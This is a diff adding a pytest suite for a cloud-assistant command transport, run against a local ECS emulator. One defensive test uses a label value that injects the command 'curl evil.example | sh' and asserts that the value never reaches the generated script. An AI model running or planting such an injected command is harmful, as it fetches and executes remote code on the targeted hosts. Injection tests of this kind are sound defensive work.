@@ -1,0 +1,155 @@
+"""Cloud Assistant transport: the real core SDK against the loopback ECS/ESS emulator."""
+
+import base64
+import logging
+import sys
+
+import pytest
+
+from functions.delivery.cloud_assistant import CloudAssistantTransport
+from functions.delivery.command import DEFAULT_ROOT
+from functions.delivery.result import outcome
+from functions.delivery.rpc import ApiError
+from functions.delivery.transport import ScriptMaker
+from tests.delivery.conftest import SECRET, TOKEN, rpc, targets
+from tests.support.rpc_emulator import ShellNode, SimNode, rpc_signature
+
+pytestmark = pytest.mark.cloud_assistant
+
+
+def transport(ecs, maker, **kw):
+    kw.setdefault("agent_wait_s", 0.3)
+    kw.setdefault("poll_s", 0.02)
+    kw.setdefault("poll_max_s", 0.05)
+    return CloudAssistantTransport(ecs, maker, **kw)
+
+
+def outcomes(results):
+    return {r.instance_id: outcome(r).outcome for r in results}
+
+
+def test_the_emulator_signature_is_the_documented_one():
+    # Alibaba Cloud's own worked example of an RPC signature (ECS DescribeRegions, secret "testsecret").
+    params = {"AccessKeyId": "testid", "Action": "DescribeRegions", "Format": "XML",
+              "SignatureMethod": "HMAC-SHA1", "SignatureNonce": "3ee8c1b8-83d3-44af-a94f-4e0ad82fd6cf",
+              "SignatureVersion": "1.0", "Timestamp": "2016-02-23T12:46:24Z", "Version": "2014-05-26"}
+    assert rpc_signature("GET", params, "testsecret") == "OLeaidS1JvxuMvnyHOwuJ+uX5qY="
+
+
+def test_requests_are_signed_and_carry_the_sts_token(emulator, ecs, maker):
+    ids = emulator.add_nodes(2)
+    results = transport(ecs, maker).run(targets(2, prefix="i-emu"))
+    assert emulator.rejected == [] and len(results) == 2
+    assert all(params["SecurityToken"] == TOKEN for _, params in emulator.requests)
+    run = [p for a, p in emulator.requests if a == "RunCommand"][0]
+    assert run["Version"] == "2014-05-26" and run["Type"] == "RunShellScript" and run["KeepCommand"] == "false"
+    assert run["ContentEncoding"] == "Base64" and run["EnableParameter"] == "true" and run["ClientToken"]
+    assert [run["InstanceId.1"], run["InstanceId.2"]] == ids
+
+
+def test_a_wrong_secret_is_refused_by_the_emulator(emulator, maker):
+    with pytest.raises(ApiError) as err:
+        rpc(emulator, secret="not-the-secret").call("DescribeCloudAssistantStatus", {"RegionId": "x"})
+    assert err.value.code in ("SignatureDoesNotMatch", "InvalidAccessKeySecret")
+
+
+def test_150_warm_nodes_take_two_runcommands_and_polls_per_batch(emulator, ecs, maker):
+    emulator.add_nodes(150, lambda iid: SimNode(duration_s=0.2))
+    t = transport(ecs, maker)
+    results = t.run(targets(150, prefix="i-emu"))
+    assert set(outcomes(results).values()) == {"partitioned"}
+    assert emulator.calls["RunCommand"] == 2 and emulator.calls["SendFile"] == 0
+    assert emulator.calls["DescribeCloudAssistantStatus"] == 2
+    # each poll reads a batch in pages of 50: never one call per instance
+    polls = emulator.calls["DescribeInvocationResults"]
+    assert polls < 150 and polls % 1 == 0
+    assert t.largest_request <= 24 * 1024
+
+
+def test_one_node_failing_never_hides_the_others(emulator, ecs, maker):
+    ids = emulator.add_nodes(6)
+    emulator.nodes[ids[1]].agent_ready = False  # never comes up
+    emulator.nodes[ids[2]].released = True  # released mid-run
+    emulator.nodes[ids[3]].timeout = True  # script ran past its Timeout
+    emulator.nodes[ids[4]].exit_code = 4
+    emulator.nodes[ids[4]].result = {"outcome": "failed", "error": {"code": "gpu-busy", "message": "busy"}}
+    emulator.nodes[ids[5]].ready_after = 2  # agent comes up on the third status query
+    results = {r.instance_id: r for r in transport(ecs, maker, agent_wait_s=5).run(targets(6, prefix="i-emu"))}
+    got = {iid: (outcome(r).outcome, r.error) for iid, r in results.items()}
+    assert got[ids[0]] == ("partitioned", None) and got[ids[5]] == ("partitioned", None)
+    assert got[ids[1]] == ("failed", "agent-not-ready")
+    assert got[ids[2]] == ("failed", "instance-released")
+    assert got[ids[3]] == ("failed", "execution-timeout")
+    assert got[ids[4]][0] == "failed" and "gpu-busy: busy" in outcome(results[ids[4]]).reason
+
+
+def test_throttling_and_5xx_are_retried_with_backoff(emulator, ecs, maker):
+    emulator.add_nodes(2)
+    emulator.fail_next("DescribeCloudAssistantStatus", "Throttling.User", 400)
+    emulator.fail_next("RunCommand", "ServiceUnavailable", 503)
+    emulator.fail_next("DescribeInvocationResults", "InternalError", 500, times=2)
+    results = transport(ecs, maker).run(targets(2, prefix="i-emu"))
+    assert set(outcomes(results).values()) == {"partitioned"}
+    assert emulator.calls["RunCommand"] == 2 and ecs.calls["RunCommand"] == 2
+    # the retried RunCommand reused its ClientToken: one invocation, not two
+    tokens = [p["ClientToken"] for a, p in emulator.requests if a == "RunCommand"]
+    assert tokens[0] == tokens[1] and len(emulator.invocations) == 1
+
+
+def test_a_persistent_api_error_fails_only_its_batch(emulator, ecs, maker):
+    emulator.add_nodes(101)
+    first = emulator.add_nodes(0) or "i-emu0000"
+    emulator.fail_next("RunCommand", "InternalError", 500, times=4,  # the first batch exhausts its attempts
+                       when=lambda params: params.get("InstanceId.1") == first)
+    results = transport(ecs, maker).run(targets(101, prefix="i-emu"))
+    kinds = sorted(set((outcome(r).outcome, r.error) for r in results))
+    assert ("failed", "api-error") in kinds and ("partitioned", None) in kinds
+
+
+def test_cold_nodes_get_the_bundle_by_sendfile_then_run_once_more(emulator, ecs, fake_bundle):
+    emulator.add_nodes(60, lambda iid: SimNode(bundle=False))
+    maker = ScriptMaker(fake_bundle, 30, DEFAULT_ROOT, sys.executable)
+    t = transport(ecs, maker)
+    results = t.run(targets(60, prefix="i-emu"))
+    assert set(outcomes(results).values()) == {"partitioned"}
+    parts = len(fake_bundle.chunks())
+    assert emulator.calls["SendFile"] == parts * 2  # 60 instances: two calls of <= 50 per part
+    assert emulator.calls["RunCommand"] == 2
+    for action, params in emulator.requests:
+        if action == "SendFile":
+            assert len(params["Content"]) <= 32 * 1024 and "InstanceId.51" not in params
+            assert params["TargetDir"] == DEFAULT_ROOT + "/incoming" and params["ContentType"] == "Base64"
+
+
+def test_the_whole_path_runs_for_real_on_shell_nodes(emulator, ecs, fake_bundle, tmp_path):
+    """ShellNode runs the decoded command in a subprocess against its own directory: the agent check, the
+    bundle-missing answer, SendFile parts, assembly, hash check, unpack and the node's JSON."""
+    ids = emulator.add_nodes(3, lambda iid: ShellNode(str(tmp_path / iid), DEFAULT_ROOT))
+    maker = ScriptMaker(fake_bundle, 30, DEFAULT_ROOT, sys.executable)
+    results = transport(ecs, maker).run(targets(3, prefix="i-emu"))
+    docs = {r.instance_id: r.result for r in results}
+    assert [outcome(r).outcome for r in results] == ["partitioned"] * 3
+    assert docs[ids[1]]["node_name"] == "cn-test.10.0.0.1"  # {{ACS::InstanceId}} picked its own name
+    assert emulator.calls["RunCommand"] == 2 and emulator.calls["SendFile"] == len(fake_bundle.chunks())
+    before = dict(emulator.calls)
+    results = transport(ecs, maker).run(targets(3, prefix="i-emu"))  # a rerun sends nothing twice
+    assert emulator.calls["SendFile"] == before["SendFile"] and emulator.calls["RunCommand"] == before["RunCommand"] + 1
+    assert all(r.result["outcome"] == "success" for r in results)
+
+
+def test_a_hostile_label_never_appears_in_the_command(emulator, ecs, maker):
+    emulator.add_nodes(1)
+    hostile = "1g.5gb'; curl evil.example | sh; echo '"
+    transport(ecs, maker).run(targets(1, value=hostile, prefix="i-emu"))
+    content = [p["CommandContent"] for a, p in emulator.requests if a == "RunCommand"][0]
+    assert hostile not in base64.b64decode(content).decode()
+
+
+def test_credentials_never_reach_logs_or_results(emulator, ecs, maker, caplog):
+    caplog.set_level(logging.DEBUG)
+    emulator.add_nodes(2)
+    emulator.fail_next("RunCommand", "Throttling", 400)
+    emulator.fail_next("DescribeInvocationResults", "InvalidParameter", 400, times=1)
+    results = transport(ecs, maker).run(targets(2, prefix="i-emu"))
+    text = caplog.text + repr(results) + repr(ecs.__dict__)
+    assert SECRET not in text and TOKEN not in text
